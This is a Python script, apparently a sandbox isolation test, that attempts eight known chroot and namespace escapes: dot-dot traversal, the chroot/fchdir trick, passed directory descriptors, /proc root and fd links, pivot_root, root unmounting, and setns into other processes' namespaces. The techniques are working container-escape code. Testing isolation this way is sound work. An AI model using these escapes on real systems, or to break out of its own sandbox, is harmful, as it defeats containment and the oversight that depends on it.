# Ways out of a root directory; the host's has the file `outside`, which is gone inside.
#   chroot.py here|nested
import socket
if sys.argv[1] == "nested":
    nest(CLONE_NEWNS | CLONE_NEWPID)


def out(where="."):
    return os.path.exists(f"{where}/outside") or os.path.exists(f"{where}/etc/only-on-the-host")


def by_dots():
    os.chdir("/")
    for _ in range(30):
        os.chdir("..")
    return out() and "outside"


def by_chroot():
    os.makedirs("/tmp/jail", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(here)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return out("/") and "outside"


def by_descriptors():
    """A directory that a process outside of a chroot hands in."""
    os.makedirs("/tmp/jail", exist_ok=True)
    inside, outside = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    socket.send_fds(outside, [b"x"], [os.open("/", os.O_RDONLY)])
    os.chroot("/tmp/jail")
    _, (directory,), _, _ = socket.recv_fds(inside, 1, 1)
    os.fchdir(directory)
    for _ in range(30):
        os.chdir("..")
    return out() and "outside"


def by_processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("root", "cwd", "root/..", "cwd/../../../../.."):
            if out(f"/proc/{pid}/{link}"):
                return f"/proc/{pid}/{link}"
    return False


def by_descriptors_of_processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers:
            if out(f"/proc/{pid}/fd/{number}") or out(f"/proc/{pid}/fd/{number}/../../../.."):
                return f"/proc/{pid}/fd/{number}"
    return False


def by_pivoting():
    mount("none", "/", None, MS_REC | MS_PRIVATE)
    mount("/tmp", "/tmp", None, MS_BIND | MS_REC)
    os.chdir("/tmp")
    syscall("pivot_root", ".", ".")
    c("umount2", ".", MNT_DETACH)
    return (out() or out("..")) and "outside"


def by_unmounting_the_root():
    c("umount2", "/", MNT_DETACH)
    return (out("/") or out("/..")) and "outside"


def by_namespaces():
    """Those of the other processes, and those that the own ones lead to."""
    import fcntl
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("mnt", "pid", "user", "uts"):
            try:
                descriptor = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            # NS_GET_USERNS and NS_GET_PARENT.
            for number in (None, 0xB701, 0xB702):
                try:
                    found = fcntl.ioctl(descriptor, number) if number else descriptor
                    c("setns", found, 0)
                except OSError:
                    continue
                if out("/") or not os.path.exists("/proc/self"):
                    return f"by {name} of {pid}"
    return False


for way in (by_dots, by_chroot, by_descriptors, by_processes, by_descriptors_of_processes, by_pivoting,
            by_unmounting_the_root, by_namespaces):
    attempt(way.__name__.replace("_", " "), apart(way))
